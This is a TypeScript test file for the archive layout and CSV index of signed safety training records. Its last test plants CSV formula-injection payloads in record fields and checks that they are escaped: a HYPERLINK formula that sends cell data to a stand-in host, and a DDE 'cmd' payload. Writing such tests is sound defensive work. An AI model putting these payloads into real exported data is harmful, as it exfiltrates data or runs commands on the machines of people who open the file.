import type { SignerRole } from '@ssm/shared';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  buildRecordPath,
  formatIndexCsv,
  toIndexRow,
  toSafeName,
} from '../../src/archives/domain/archive-layout';
import type { RecordSeal, TrainingRecord } from '../../src/records/data/records';
import { buildSampleRecord } from '../support/sample-record';

/** The archive's layout reads no seal: a placeholder stands in for one. */
const NO_SEAL: RecordSeal = { key_id: 'local:test', algorithm: 'RSASSA_PKCS1_V1_5_SHA_256', signature: '' };

function buildSignedDocument(overrides: Partial<TrainingRecord> = {}): TrainingRecord {
  const content = buildSampleRecord();
  const signer = (first_name: string, last_name: string, role: 'employee' | 'admin' | 'owner') => ({
    id: `${role}-id`,
    role,
    username: `${first_name}.${last_name}`.toLowerCase(),
    first_name,
    last_name,
    email: null,
    birth_date: null,
  });
  const signature = (
    role: 'trainee' | 'representative' | 'trainer',
    person: ReturnType<typeof signer>,
    hash: string,
  ) => ({
    role,
    signer: person,
    timestamp: '2026-11-22T08:16:00.000Z',
    recorded_at: '2026-11-22T08:16:01.000Z',
    signature_hash: hash.repeat(64),
    content_hash: 'c'.repeat(64),
    binding_hash: 'b'.repeat(64),
    method: 'mass-sign' as const,
    ip: '10.0.0.1',
    user_agent: 'Mozilla/5.0 "test"; x',
    required_roles: ['trainee', 'trainer'] as SignerRole[],
    seal: NO_SEAL,
  });
  return {
    id: content.document_id,
    status: 'signed',
    trainee_id: content.trainee.id,
    company_id: content.company.id,
    firm_id: content.firm.id,
    content: content,
    content_hash: 'c'.repeat(64),
    start: { required_roles: ['trainee', 'trainer'], seal: NO_SEAL },
    signatures: [
      signature('trainee', signer('Ștefan', 'Țărănescu', 'employee'), '1'),
      signature('trainer', signer('Andrei', 'Ionescu', 'owner'), '3'),
    ],
    signed_roles: ['trainee', 'trainer'],
    document_hash: 'd'.repeat(64),
    signed_at: '2026-11-23T07:05:00.000Z',
    pdf_key: 'records/f/c/d.pdf',
    pdf_sha256: 'e'.repeat(64),
    pdf_sealed_sha256: 'f'.repeat(64),
    created_at: '2026-11-22T08:15:01.000Z',
    version: 3,
    ...overrides,
  };
}

describe('names inside the archive', () => {
  it('fold diacritics and drop what file systems refuse', () => {
    expect(toSafeName('Țărănescu Ștefan')).toBe('Taranescu Stefan');
    expect(toSafeName('a/b\\c:d*e?f"g<h>i|j')).toBe('a b c d e f g h i j');
    expect(toSafeName('  ..ascuns.. ')).toBe('ascuns');
    expect(toSafeName('CON')).toBe('_CON');
    expect(toSafeName('???')).toBe('fara-nume');
    expect(toSafeName('x'.repeat(200))).toHaveLength(80);
  });

  it("put each record in its employee's folder, named by name and username", () => {
    expect(buildRecordPath(buildSignedDocument())).toBe(
      'Taranescu Stefan (stefan.taranescu)/2026-11-22 Lucrul la inaltime si schelele 01JD7Z8Q0000000000000000AB.pdf',
    );
  });
});

describe('the archive index', () => {
  it('is UTF-8 with a BOM, separated by ; and parses back to one row per record with its signatures', () => {
    const records = [buildSignedDocument(), buildSignedDocument({ id: '01JD7Z8Q0000000000000000AC' })];
    const csv = formatIndexCsv(records.map(toIndexRow));

    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows: Record<string, string>[] = parse(csv, { bom: true, delimiter: ';', columns: true });
    expect(rows).toHaveLength(2);
    const [first] = rows;
    expect(first?.Nume).toBe('Țărănescu');
    expect(first?.Prenume).toBe('Ștefan');
    expect(first?.Cursul).toBe('Lucrul la înălțime și schelele');
    expect(first?.['Scor (%)']).toBe('100');
    expect(first?.['Amprenta documentului (SHA-256)']).toBe('d'.repeat(64));
    expect(first?.['Cursant: nume']).toBe('Țărănescu Ștefan');
    expect(first?.['Cursant: hash semnătură']).toBe('1'.repeat(64));
    expect(first?.['Cursant: browser']).toBe('Mozilla/5.0 "test"; x');
    expect(first?.['Serviciul SSM: nume']).toBe('Ionescu Andrei');
    expect(first?.['Reprezentantul angajatorului: nume']).toBe('');
    expect(first?.Fișier).toBe(buildRecordPath(records[0] as TrainingRecord));
  });

  it('opens every cell that starts like a formula as text, whoever wrote it', () => {
    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
    const record = buildSignedDocument();
    record.content.trainee.last_name = planted;
    record.content.course.title = "+cmd|' /C calc'!A0";
    const trainee = record.signatures[0] as TrainingRecord['signatures'][number];
    trainee.user_agent = '@SUM(1+1)';

    const [row]: Record<string, string>[] = parse(formatIndexCsv([toIndexRow(record)]), {
      bom: true,
      delimiter: ';',
      columns: true,
    });

    expect(row?.Nume).toBe(`'${planted}`);
    expect(row?.Cursul).toBe("'+cmd|' /C calc'!A0");
    expect(row?.['Cursant: browser']).toBe("'@SUM(1+1)");
    expect(row?.Prenume).toBe('Ștefan');
  });
});
